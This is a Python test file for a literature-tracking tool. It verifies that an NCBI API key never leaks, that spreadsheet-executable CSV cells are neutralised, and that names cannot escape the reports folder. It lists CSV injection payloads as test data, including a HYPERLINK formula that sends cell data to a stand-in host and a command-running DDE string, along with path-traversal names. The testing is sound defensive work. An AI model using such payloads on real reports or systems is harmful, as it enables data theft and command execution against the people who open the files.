"""Secrets and output safety: the NCBI key never leaks; reports cannot attack their readers.

* The API key goes to NCBI on every request and nowhere else: not to stderr (even at debug
  level, even when requests fail and their URLs are printed), not to the log file, not to
  ``runs.error``, not to any report file, not to any byte of the SQLite store.
* A CSV cell that a spreadsheet would execute (``= + - @``, tab or CR first) is neutralised,
  whoever wrote the text (titles come from PubMed and ClinicalTrials.gov, i.e. from anyone).
* Names that become file names (topics, run ids) cannot leave the reports folder.
"""

from __future__ import annotations

import csv
import dataclasses
import os
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from littrack.config import ReportSettings, load_settings, parse_settings
from littrack.errors import ConfigError
from littrack.pipeline import run
from littrack.reports import write_run_report
from littrack.reports.csv import safe_cell, safe_name, write_csv
from littrack.store import Store
from tests.builders.ctgov import study
from tests.builders.pubmed import article_xml
from tests.corpus import ctgov_matches, populate
from tests.fakes import CtgovFake, EutilsFake
from tests.test_faults import GlitchyEutils, env_for, tuned_config

API_KEY = "SEKRET0api0key0b7e4c19d2"  # distinctive: a hit anywhere is a leak
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def fakes() -> Iterator[tuple[GlitchyEutils, CtgovFake]]:
    with GlitchyEutils() as eutils, CtgovFake(rate_limit_per_minute=None) as ctgov:
        yield eutils, ctgov
    assert not eutils.errors and not ctgov.errors


# ---- the API key ------------------------------------------------------------------------------
def test_api_key_never_appears_in_output_logs_tables_reports_or_store(
        tmp_path: Path, fakes: tuple[GlitchyEutils, CtgovFake]) -> None:
    """A debug-level CLI run with the key set, through faults that make littrack print URLs
    (a topic that gives up) and make NCBI echo the key (its 429 body names it)."""
    eutils, ctgov = fakes
    log_file = tmp_path / "data" / "littrack.log"
    config = tuned_config(tmp_path, max_tries=3, extra="")
    text = config.read_text(encoding="utf-8").replace(
        "[littrack]\n", f'[littrack]\nlog_file = "{log_file}"\n', 1)
    config.write_text(text, encoding="utf-8")
    env = env_for(tmp_path / "data", eutils, ctgov, api_key=API_KEY)
    settings = load_settings(config, env=env)
    populate(settings, eutils, ctgov, articles=20, trials=6)
    # one topic's ESearch (a GET: the key is in its URL) gives up; its error names the endpoint
    eutils.garble_query = settings.topic("mdma-ptsd").pubmed_query
    eutils.faults.push("500", "esearch.fcgi")
    for kind in ("429", "error200", "truncate", "502"):
        eutils.faults.push(kind, "efetch.fcgi", retry_after=0.1)

    proc = subprocess.run([sys.executable, "-m", "littrack", "-v", "--config", str(config),
                           "run"], env={**os.environ, **env}, capture_output=True, text=True,
                          timeout=120)
    assert proc.returncode == 1, proc.stderr  # the topic that gave up
    output = proc.stdout + proc.stderr
    # the test means something only if the key was sent and URLs were printed
    assert all(r.params.get("api_key") == API_KEY for r in eutils.requests())
    assert "gave up after 3 tries" in output
    failed = [line for line in proc.stdout.splitlines() if line.startswith("FAILED")]
    # the error names the endpoint only (issue 11: no encoded query URLs at INFO and above);
    # the whole URL, key redacted, is in the -v (DEBUG) log
    assert len(failed) == 1 and "esearch.fcgi" in failed[0] and "?" not in failed[0]
    assert any(r.status == 429 for r in eutils.requests())
    assert log_file.read_text(encoding="utf-8").count("api_key=***") >= 1

    assert API_KEY not in output
    db = tmp_path / "data" / "littrack.sqlite"
    con = sqlite3.connect(db)
    try:
        errors = [r[0] for r in con.execute("SELECT error FROM runs WHERE error IS NOT NULL")]
    finally:
        con.close()
    assert errors and all(API_KEY not in e for e in errors)
    files = [p for p in (tmp_path / "data").rglob("*") if p.is_file()]
    assert db in files and log_file in files
    assert any(p.suffix == ".csv" for p in files)
    for path in files:  # store (and its WAL), lock, log, every report file
        assert API_KEY.encode() not in path.read_bytes(), path


# ---- CSV cells --------------------------------------------------------------------------------
@given(st.text())
def test_safe_cell_neutralises_exactly_the_dangerous_starts(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(DANGEROUS)
    if text.startswith(DANGEROUS):
        assert cell == "'" + text
    else:
        assert cell == text


def test_write_csv_neutralises_every_cell_including_headers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=cmd": ["=1+1", "+SUM(A1)", "-2+3", "@A1", "\tx", "\ry", "ok",
                                   None, 2024, "a=b"]})
    path = tmp_path / "t.csv"
    write_csv(frame, path)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["'=cmd"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+SUM(A1)", "'-2+3", "'@A1", "'\tx", "'\ry",
                                        "ok", "", "2024", "a=b"]


def test_hostile_titles_from_the_services_reach_reports_neutralised(
        tmp_path: Path, fakes: tuple[EutilsFake, CtgovFake]) -> None:
    """End to end: titles an attacker can publish arrive in the CSVs as inert text."""
    eutils, ctgov = fakes
    config = tuned_config(tmp_path)
    settings = load_settings(config, env=env_for(tmp_path / "data", eutils, ctgov))
    hostile = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0",
               "-1+2", "@SUM(1,1)", "\t=1+1", "\r=2+2"]
    topic = settings.topic("mdma-ptsd")
    assert topic.pubmed_query
    eutils.register_query(topic.pubmed_query)
    for i, title in enumerate(hostile):
        pmid = str(32000000 + i)
        eutils.add_article(pmid, article_xml(pmid, title=title, entrez_date=date(2025, 1, 1)),
                           edat=date(2025, 1, 1), queries=[topic.pubmed_query])
        ctgov.add_study(study(f"NCT0{8000000 + i}", title=title),
                        matches=[ctgov_matches(settings, "mdma-ptsd")])
    result = run(settings, topics=["mdma-ptsd"])
    assert result.exit_code == 0 and result.report_dir is not None
    cells: list[str] = []
    for name in ("new_articles.csv", "new_trials.csv"):
        with open(result.report_dir / name, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        assert len(rows) == 1 + len(hostile)
        cells += [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    # each title arrives (a parser may trim the leading tab or CR) and is inert
    for title in hostile:
        arrived = [c for c in cells if c in ("'" + title, "'" + title.strip())]
        assert len(arrived) == 2, (title, arrived)  # its article and its trial


# ---- names that become file names --------------------------------------------------------------
@given(st.text())
def test_safe_name_never_leaves_its_folder(name: str) -> None:
    folder = Path("/srv/littrack/reports")
    cleaned = safe_name(name)
    assert cleaned and cleaned not in (".", "..")
    assert "/" not in cleaned and "\\" not in cleaned and "\0" not in cleaned
    assert os.path.normpath(folder / cleaned).startswith(str(folder) + os.sep)


@pytest.mark.parametrize("name", ["../escape", "a/b", "..", ".hidden", "Upper", "x" * 64,
                                  "", "-leading", "a\\b", "a b", "ünï"])
def test_config_refuses_topic_names_unfit_for_file_names(tmp_path: Path, name: str) -> None:
    data = {"topics": [{"name": name, "pubmed": {"query": "MDMA"}}]}
    with pytest.raises(ConfigError) as info:
        parse_settings(data, tmp_path / "littrack.toml", {})
    assert "name" in str(info.value)


def test_a_run_report_with_a_hostile_run_id_stays_in_the_reports_folder(tmp_path: Path) -> None:
    config = tuned_config(tmp_path)
    settings = load_settings(config, env={"LITTRACK_DATA_DIR": str(tmp_path / "data")})
    # an empty run writes a folder only when asked to (issue 11): ask, so one is written
    settings = dataclasses.replace(settings, reports=ReportSettings(write_empty=True))
    with Store(settings.db_path) as store:
        out = write_run_report(store, settings, [], "../../../escaped")
    assert out is not None and out.resolve().parent == settings.reports_dir.resolve()
    assert not (tmp_path / "escaped").exists() and not (tmp_path.parent / "escaped").exists()
